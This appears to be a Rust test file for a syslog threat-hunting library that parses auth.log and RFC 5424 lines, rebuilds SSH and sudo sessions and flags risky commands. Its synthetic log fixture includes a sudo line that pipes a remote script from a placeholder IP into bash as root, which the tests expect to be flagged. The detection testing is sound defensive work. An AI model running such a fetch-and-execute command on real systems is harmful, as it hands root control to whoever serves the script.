//! Syslog: raw auth.log / RFC 5424 text, msticpy's Log Analytics syslog exports, sessions,
//! commands in sessions and host facts.

// Test helpers outside #[test] functions unwrap too: a failure there is a test failure.
#![allow(clippy::unwrap_used)]

use huntbook_analysis::syslog::{
    ReadOptions, SessionOptions, host_record, logon_events, logon_sessions, read_syslog,
    session_commands,
};
use huntbook_testkit::shared_data;
use polars::prelude::*;

fn read_csv(rel: &str) -> Option<DataFrame> {
    let Some(path) = shared_data(rel) else {
        eprintln!("skipping: shared test data {rel} is not available");
        return None;
    };
    let df = CsvReadOptions::default()
        .with_infer_schema_length(Some(0))
        .try_into_reader_with_file_path(Some(path))
        .unwrap()
        .finish()
        .unwrap();
    // The exports start with a byte-order mark and a blank index column name.
    let names: Vec<String> = df
        .get_column_names()
        .iter()
        .map(|n| n.trim_start_matches('\u{feff}').to_string())
        .collect();
    let mut df = df;
    df.set_column_names(&names).unwrap();
    Some(df)
}

fn strings(df: &DataFrame, col: &str) -> Vec<Option<String>> {
    df.column(col)
        .unwrap()
        .str()
        .unwrap()
        .iter()
        .map(|v| v.map(str::to_string))
        .collect()
}

fn times(df: &DataFrame, col: &str) -> Vec<Option<i64>> {
    df.column(col)
        .unwrap()
        .datetime()
        .unwrap()
        .physical()
        .iter()
        .collect()
}

const AUTH_LOG: &str = "\
Dec  1 09:00:01 web1 sshd[2001]: Failed password for invalid user admin from 198.51.100.20 port 40001 ssh2
Dec  1 09:00:03 web1 sshd[2001]: Invalid user oracle from 198.51.100.20 port 40002
Dec  1 09:01:00 web1 sshd[2100]: Accepted publickey for alice from 203.0.113.7 port 51515 ssh2: ED25519 SHA256:x
Dec  1 09:01:00 web1 sshd[2100]: pam_unix(sshd:session): session opened for user alice(uid=1000) by (uid=0)
Dec  1 09:02:10 web1 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/curl -s http://203.0.113.99/i.sh | bash
Dec  1 09:02:10 web1 sudo: pam_unix(sudo:session): session opened for user root(uid=0) by alice(uid=1000)
Dec  1 09:02:12 web1 sudo: pam_unix(sudo:session): session closed for user root
Dec  1 09:03:00 web1 su[2300]: (to root) alice on pts/0
this line is not syslog at all
<38>1 2026-12-01T09:04:00.250Z web1 sshd 2400 - - Accepted password for bob from 192.0.2.44 port 60000 ssh2
<38>1 2026-12-01T09:04:00.300Z web1 sshd 2400 - - pam_unix(sshd:session): session opened for user bob(uid=1001) by (uid=0)
Dec  1 09:30:00 web1 sshd[2100]: pam_unix(sshd:session): session closed for user alice
";

#[test]
fn reads_raw_lines_and_keeps_bad_ones() {
    let df = read_syslog(AUTH_LOG, &ReadOptions::default().with_year(2026)).unwrap();
    assert_eq!(df.height(), 12);
    assert_eq!(
        df.get_column_names().len(),
        huntbook_analysis::syslog::COLUMNS.len()
    );
    let errors = strings(&df, "error");
    assert_eq!(errors.iter().filter(|e| e.is_some()).count(), 1);
    assert!(
        errors[8]
            .as_deref()
            .unwrap()
            .starts_with("line 9: no RFC 3164")
    );
    assert_eq!(
        strings(&df, "SyslogMessage")[8].as_deref(),
        Some("this line is not syslog at all")
    );
    assert_eq!(strings(&df, "ProcessName")[4].as_deref(), Some("sudo"));
    assert_eq!(strings(&df, "format")[9].as_deref(), Some("rfc5424"));
    assert_eq!(strings(&df, "Facility")[9].as_deref(), Some("auth"));
    assert_eq!(
        df.column("ProcessID").unwrap().i64().unwrap().get(2),
        Some(2100)
    );
    assert_eq!(times(&df, "TimeGenerated")[0], Some(1_796_115_601_000));
}

#[test]
fn raw_auth_log_sessions_and_commands() {
    let rows = read_syslog(AUTH_LOG, &ReadOptions::default().with_year(2026)).unwrap();
    let opts = SessionOptions::default();

    let events = logon_events(&rows, &opts).unwrap();
    let actions = strings(&events, "action");
    assert_eq!(
        actions
            .iter()
            .filter(|a| a.as_deref() == Some("logon_failure"))
            .count(),
        2
    );

    let sessions = logon_sessions(&rows, &opts).unwrap();
    let services = strings(&sessions, "service");
    let users = strings(&sessions, "User");
    let success: Vec<Option<bool>> = sessions
        .column("success")
        .unwrap()
        .bool()
        .unwrap()
        .iter()
        .collect();
    assert_eq!(services.len(), 5, "{services:?}");
    // Two failures, alice's ssh session, her sudo session, bob's open ssh session.
    assert_eq!(success.iter().filter(|s| **s == Some(false)).count(), 2);
    let alice = (0..users.len())
        .find(|&i| users[i].as_deref() == Some("alice") && success[i] == Some(true))
        .unwrap();
    assert_eq!(
        strings(&sessions, "source_ip")[alice].as_deref(),
        Some("203.0.113.7")
    );
    assert_eq!(
        strings(&sessions, "method")[alice].as_deref(),
        Some("publickey")
    );
    let durations = sessions.column("duration_seconds").unwrap().f64().unwrap();
    assert_eq!(durations.get(alice), Some(1740.0));
    let sudo = services
        .iter()
        .position(|s| s.as_deref() == Some("sudo"))
        .unwrap();
    assert_eq!(
        strings(&sessions, "by_user")[sudo].as_deref(),
        Some("alice")
    );
    assert_eq!(
        sessions
            .column("risky_commands")
            .unwrap()
            .u32()
            .unwrap()
            .get(sudo),
        Some(1)
    );
    let bob = users
        .iter()
        .position(|u| u.as_deref() == Some("bob"))
        .unwrap();
    assert_eq!(times(&sessions, "End")[bob], None);
    assert_eq!(
        strings(&sessions, "source_ip")[bob].as_deref(),
        Some("192.0.2.44")
    );

    let commands = session_commands(&rows, &opts).unwrap();
    assert_eq!(commands.height(), 1);
    assert_eq!(
        commands.column("session_id").unwrap().u32().unwrap().get(0),
        sessions
            .column("session_id")
            .unwrap()
            .u32()
            .unwrap()
            .get(sudo)
    );
    assert_eq!(
        strings(&commands, "technique")[0].as_deref(),
        Some("T1059.004")
    );
    assert_eq!(strings(&commands, "RunAs")[0].as_deref(), Some("root"));
}

/// msticpy's cluster_syslog_logons_df on sudo_session_test.csv gives five peteb sessions.
#[test]
fn sudo_sessions_match_msticpy() {
    let Some(df) = read_csv("logs/msticpy/sudo_session_test.csv") else {
        return;
    };
    let sessions = logon_sessions(&df, &SessionOptions::default()).unwrap();
    let ok: Vec<Option<bool>> = sessions
        .column("success")
        .unwrap()
        .bool()
        .unwrap()
        .iter()
        .collect();
    let starts = times(&sessions, "Start");
    let ends = times(&sessions, "End");
    let by = strings(&sessions, "by_user");
    let pairs: Vec<(i64, i64)> = (0..sessions.height())
        .filter(|&i| ok[i] == Some(true))
        .map(|i| (starts[i].unwrap(), ends[i].unwrap()))
        .collect();
    let ms = |t: &str| huntbook_analysis_time(t);
    assert_eq!(
        pairs,
        vec![
            (ms("2019-07-15 02:44:44"), ms("2019-07-15 02:44:57")),
            (ms("2019-07-15 02:45:53"), ms("2019-07-15 02:46:00")),
            (ms("2019-07-15 02:47:12"), ms("2019-07-15 02:47:12")),
            (ms("2019-07-15 02:47:26"), ms("2019-07-15 02:47:31")),
            (ms("2019-07-15 02:47:40"), ms("2019-07-15 02:48:00")),
        ]
    );
    assert!(by.iter().flatten().all(|u| u == "peteb"));

    let commands = session_commands(&df, &SessionOptions::default()).unwrap();
    assert_eq!(commands.height(), 5);
    assert!(
        commands
            .column("session_id")
            .unwrap()
            .u32()
            .unwrap()
            .iter()
            .all(|s| s.is_some())
    );
    let risky: Vec<String> = (0..commands.height())
        .filter(|&i| commands.column("risky").unwrap().bool().unwrap().get(i) == Some(true))
        .filter_map(|i| strings(&commands, "command")[i].clone())
        .collect();
    assert_eq!(risky, vec!["/bin/bash".to_string()]);
}

fn huntbook_analysis_time(t: &str) -> i64 {
    chrono::NaiveDateTime::parse_from_str(t, "%Y-%m-%d %H:%M:%S")
        .unwrap()
        .and_utc()
        .timestamp_millis()
}

/// syslog_data.csv: 33 sudo sessions opened and closed (msticpy pairs 32 of them).
#[test]
fn syslog_export_sessions() {
    let Some(df) = read_csv("logs/msticpy/syslog_data.csv") else {
        return;
    };
    let sessions = logon_sessions(&df, &SessionOptions::default()).unwrap();
    assert_eq!(sessions.height(), 33);
    assert!(times(&sessions, "End").iter().all(Option::is_some));
    let commands = session_commands(&df, &SessionOptions::default()).unwrap();
    assert_eq!(commands.height(), 34);
}

#[test]
fn host_facts_from_syslog_and_heartbeat() {
    let (Some(sys), Some(hb)) = (
        read_csv("logs/msticpy/syslog_data.csv"),
        read_csv("logs/msticpy/host_hb.csv"),
    ) else {
        return;
    };
    let host = host_record(&sys, Some(&hb)).unwrap();
    assert_eq!(host.height(), 1);
    assert_eq!(
        strings(&host, "Computer")[0].as_deref(),
        Some("squid-uk-02")
    );
    assert_eq!(strings(&host, "OSName")[0].as_deref(), Some("Ubuntu"));
    assert_eq!(strings(&host, "OSMajorVersion")[0].as_deref(), Some("18"));
    assert_eq!(
        strings(&host, "ComputerIP")[0].as_deref(),
        Some("51.140.160.102")
    );
    assert_eq!(
        strings(&host, "RemoteIPCountry")[0].as_deref(),
        Some("United Kingdom")
    );
    assert_eq!(strings(&host, "HostIPs")[0].as_deref(), Some("10.0.6.5"));
    let apps = strings(&host, "Applications")[0]
        .clone()
        .unwrap_or_default();
    assert!(!apps.contains("sudo") && !apps.contains("CRON"), "{apps}");
    assert_eq!(
        host.column("Events").unwrap().u32().unwrap().get(0),
        Some(100)
    );

    let bare = host_record(&sys, None).unwrap();
    assert!(bare.column("OSName").is_err());
}

#[test]
fn missing_columns_are_clear_errors() {
    let df = DataFrame::new(1, vec![Column::new("msg".into(), ["x"])]).unwrap();
    let err = logon_sessions(&df, &SessionOptions::default())
        .unwrap_err()
        .to_string();
    assert!(err.contains("SyslogMessage"), "{err}");
}

#[test]
fn arbitrary_text_never_panics() {
    let mut seed = 0xdead_beef_cafe_f00du64;
    let mut next = move || {
        seed ^= seed << 13;
        seed ^= seed >> 7;
        seed ^= seed << 17;
        seed
    };
    let pieces = [
        "<",
        ">",
        "1 ",
        "Dec ",
        " 1 ",
        "09:00:01 ",
        "host ",
        "sshd[",
        "]: ",
        "-",
        "[",
        "]",
        "\"",
        "=",
        "\u{feff}",
        "Accepted password for ",
    ];
    let mut text = String::new();
    for _ in 0..5000 {
        if next() % 4 == 0 {
            text.push(char::from_u32((next() % 0x11_0000) as u32).unwrap_or('?'));
        } else {
            text.push_str(pieces[(next() % pieces.len() as u64) as usize]);
        }
        if next() % 12 == 0 {
            text.push('\n');
        }
    }
    let rows = read_syslog(&text, &ReadOptions::default().with_year(2026)).unwrap();
    assert!(rows.height() > 100);
    let _ = logon_sessions(&rows, &SessionOptions::default()).unwrap();
}
